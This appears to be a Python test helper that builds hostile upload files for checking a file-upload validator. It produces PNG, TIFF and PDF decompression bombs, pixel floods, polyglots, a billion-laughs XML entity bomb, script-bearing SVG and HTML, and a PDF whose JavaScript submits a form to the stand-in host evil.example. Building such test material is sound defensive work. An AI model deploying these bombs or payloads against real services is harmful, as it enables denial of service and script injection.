"""Hostile files, made by the tests (never committed): pixel floods, bombs, polyglots.

Each builder writes the bytes by hand (struct, zlib) or with Pillow/pypdf,
so that what the file declares (its size, its frames) is exactly what an
attacker would declare. ``measured`` prints how long a check took and how
much memory it needed, for the reliability report (no assertion on time).
"""

import io
import os
import resource
import struct
import time
import tracemalloc
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

# --- Measuring ---------------------------------------------------------------------


@dataclass
class Figures:
    seconds: float = 0.0
    python_peak_mb: float = 0.0  # tracemalloc: what Python objects took
    rss_peak_mb: float = 0.0  # the process's peak resident memory during the check (C included)


def _reset_peak_rss() -> bool:
    """Linux ≥ 4.0 resets VmHWM when "5" is written to clear_refs."""
    try:
        with open("/proc/self/clear_refs", "w") as handle:
            handle.write("5")
    except OSError:
        return False
    return True


def _peak_rss_mb() -> float:
    try:
        with open("/proc/self/status") as handle:
            for line in handle:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        pass
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def _rss_mb() -> float:
    with open("/proc/self/statm") as handle:
        return int(handle.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 1024 / 1024


@contextmanager
def measured(label: str, size: int) -> Iterator[Figures]:
    """Time and peak memory of the block, printed on one line (``pytest -s`` shows it)."""
    figures = Figures()
    reset = _reset_peak_rss()
    before = _rss_mb() if reset else 0.0
    tracemalloc.start()
    start = time.perf_counter()
    try:
        yield figures
    finally:
        figures.seconds = time.perf_counter() - start
        figures.python_peak_mb = tracemalloc.get_traced_memory()[1] / 1024 / 1024
        tracemalloc.stop()
        figures.rss_peak_mb = _peak_rss_mb() - before
        print(
            f"\n[hostile] {label}: {size / 1024:,.0f} ko envoyés, "
            f"{figures.seconds * 1000:,.0f} ms, pic Python {figures.python_peak_mb:,.1f} Mo, "
            f"pic RSS {'+' if reset else ''}{figures.rss_peak_mb:,.1f} Mo"
        )


# --- PNG ---------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png(
    width: int,
    height: int,
    *,
    color_type: int = 0,
    frames: int = 0,
    trailer: bytes = b"",
    rows: int | None = None,
) -> bytes:
    """A PNG of zeros, ``width`` × ``height`` (8 bits), compressed row by row.

    ``color_type`` 0 is grey (1 byte a pixel), 6 is RGBA (4 bytes). ``frames``
    adds an APNG ``acTL`` chunk announcing that many frames. ``trailer``
    is appended after IEND (a zip, HTML: a polyglot). ``rows`` of data
    (default ``height``): more than the header declares is an overflow.
    """
    channels = {0: 1, 2: 3, 6: 4}[color_type]
    row = bytes(1 + width * channels)  # filter byte 0, then the pixels
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height if rows is None else rows)]
    idat = b"".join(parts) + compressor.flush()
    head = b"\x89PNG\r\n\x1a\n" + _chunk(
        b"IHDR", struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    )
    if frames:
        head += _chunk(b"acTL", struct.pack(">II", frames, 0))
        head += _chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, width, height, 0, 0, 1, 10, 0, 0))
    return head + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"") + trailer


# --- JPEG --------------------------------------------------------------------------


def jpeg(width: int = 64, height: int = 48, *, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 210, 220)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) announces ``width`` × ``height``."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    # SOF0: marker, length (2), precision (1), height (2), width (2)
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


# --- TIFF --------------------------------------------------------------------------


def tiff(width: int, height: int, *, pages: int = 1, deflate: bool = False) -> bytes:
    """A grey TIFF (little-endian), one strip of zeros a page; ``deflate`` compresses it.

    The dimensions are the header's claim: without ``deflate`` the strip is
    short (a few bytes), as in a flood; with it, the strip holds all the
    zeros (``width`` × ``height`` bytes once inflated), as in a bomb.
    """
    if deflate:
        compressor = zlib.compressobj(9)
        row = bytes(width)
        strip = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    else:
        strip = bytes(16)
    out = bytearray(b"II*\x00" + struct.pack("<I", 0))
    previous_link = 4
    for _ in range(pages):
        strip_at = len(out)
        out += strip
        if len(out) % 2:
            out += b"\x00"
        ifd_at = len(out)
        struct.pack_into("<I", out, previous_link, ifd_at)
        entries = [
            (256, 4, 1, width),  # ImageWidth
            (257, 4, 1, height),  # ImageLength
            (258, 3, 1, 8),  # BitsPerSample
            (259, 3, 1, 8 if deflate else 1),  # Compression: Adobe deflate or none
            (262, 3, 1, 1),  # PhotometricInterpretation: BlackIsZero
            (273, 4, 1, strip_at),  # StripOffsets
            (277, 3, 1, 1),  # SamplesPerPixel
            (278, 4, 1, height),  # RowsPerStrip
            (279, 4, 1, len(strip)),  # StripByteCounts
        ]
        out += struct.pack("<H", len(entries))
        for tag, kind, count, value in entries:
            packed = (
                struct.pack("<H", value) + b"\x00\x00" if kind == 3 else struct.pack("<I", value)
            )
            out += struct.pack("<HHI", tag, kind, count) + packed
        previous_link = len(out)
        out += struct.pack("<I", 0)
    return bytes(out)


# --- GIF ---------------------------------------------------------------------------


def gif(width: int = 10, height: int = 10) -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (width, height)).save(buffer, "GIF")
    return buffer.getvalue()


def gif_declaring(width: int, height: int) -> bytes:
    data = bytearray(gif())
    data[6:10] = struct.pack("<HH", width, height)  # the logical screen
    return bytes(data)


# --- PDF ---------------------------------------------------------------------------


def _javascript(code: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def pdf_with_javascript() -> bytes:
    """A one-page PDF that runs JavaScript when opened (/OpenAction) and on its page (/AA)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = _javascript(
        "app.alert('hostile-openaction'); this.submitForm('https://evil.example/');"
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _javascript("app.alert('hostile-page-open');")}
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_many_objects(count: int, under: str = "/Extra") -> bytes:
    """A one-page PDF with ``count`` small objects hanging from its catalog's ``under`` key."""
    from pypdf.generic import ArrayObject, NumberObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    items = ArrayObject(
        writer._add_object(DictionaryObject({NameObject("/N"): NumberObject(number)}))
        for number in range(count)
    )
    writer._root_object[NameObject(under)] = items
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf_objects(objects: list[bytes]) -> tuple[bytes, list[int]]:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    return bytes(out), offsets


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<" + dictionary + b" /Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def _zeros_deflated(megabytes: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    return b"".join(compressor.compress(block) for _ in range(megabytes)) + compressor.flush()


def pdf_content_bomb(megabytes: int) -> bytes:
    """A valid one-page PDF whose page content is ``megabytes`` MB of zeros, deflated."""
    body, offsets = _pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            _stream(b" /Filter /FlateDecode", _zeros_deflated(megabytes)),
        ]
    )
    xref_at = len(body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return (
        body
        + table
        + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(offsets) + 1, xref_at)
    )


def pdf_object_stream_bomb(megabytes: int) -> bytes:
    """A PDF 1.5 whose page tree sits in an object stream inflating to ``megabytes`` MB.

    To count the pages, a reader must inflate that stream: the bomb goes off
    during the upload check itself, not only in a viewer.
    """
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    header = b"2 0 "
    compressor = zlib.compressobj(9)
    inflated = compressor.compress(header + pages + b" ")
    block = b" " * (1024 * 1024)
    inflated += b"".join(compressor.compress(block) for _ in range(megabytes))
    inflated += compressor.flush()
    body, offsets = _pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"null",  # object 2 lives in the object stream (object 4)
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            _stream(b" /Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), inflated),
        ]
    )
    # A cross-reference stream (uncompressed): type 1 = at an offset, type 2 = in an ObjStm.
    xref_at = len(body)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows.append(struct.pack(">BIH", 1, offsets[0], 0))
    rows.append(struct.pack(">BIH", 2, 4, 0))  # object 2: in stream 4, index 0
    rows.append(struct.pack(">BIH", 1, offsets[2], 0))
    rows.append(struct.pack(">BIH", 1, offsets[3], 0))
    rows.append(struct.pack(">BIH", 1, xref_at, 0))  # the xref stream itself (object 5)
    xref = b"".join(rows)
    body += b"5 0 obj\n" + _stream(b" /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R", xref)
    body += b"\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % xref_at


def html_then_pdf(pdf: bytes) -> bytes:
    """HTML that a browser would run, then a PDF (readers find %PDF in the first 1 KB)."""
    return b"<html><body><script>document.title='pwned'</script></body></html>\n" + pdf


# --- XML ---------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>
"""


def deeply_nested_cda(depth: int) -> bytes:
    """A structured CDA whose narrative nests ``depth`` <content> elements."""
    return (
        b'<?xml version="1.0"?>\n<ClinicalDocument xmlns="urn:hl7-org:v3">'
        b"<title>Imbrication</title><component><structuredBody><component><section>"
        b"<title>Notes</title><text>"
        + b"<content>" * depth
        + b"profond"
        + b"</content>" * depth
        + b"</text></section></component></structuredBody></component></ClinicalDocument>"
    )


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.domain)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
